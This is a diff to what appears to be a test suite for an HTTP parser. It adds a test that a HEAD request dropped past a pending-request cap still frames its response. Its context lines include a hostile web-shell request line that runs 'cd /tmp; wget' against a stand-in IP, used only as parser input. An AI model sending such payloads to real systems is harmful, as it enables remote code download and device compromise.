@@ -317,6 +317,20 @@ test('the pending-request queue is bounded', () => {
   assert.equal(run.anomalies.counts['http-pending-limit'], 1);
 });
 
+test('a request given up past the cap still frames its response (HEAD: no body)', () => {
+  const run = converse(
+    String.raw`
+    -> HEAD /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n
+    <- HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n
+    <- HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nok`,
+    {},
+    { maxPendingRequests: 1 },
+  );
+  assert.deepEqual(summary(run.exchanges), ['HEAD /a -> null', 'GET /b -> 201']);
+  assert.equal(text(run.exchanges[1]!.response!.body), 'ok');
+  assert.equal(run.anomalies.counts['http-pending-limit'], 1);
+});
+
 test('a request line with spaces in its target is taken up to the first space', () => {
   const { exchanges } = converse(String.raw`
     -> GET /shell?cd+/tmp;wget+ http://203.0.113.9/x HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n`);
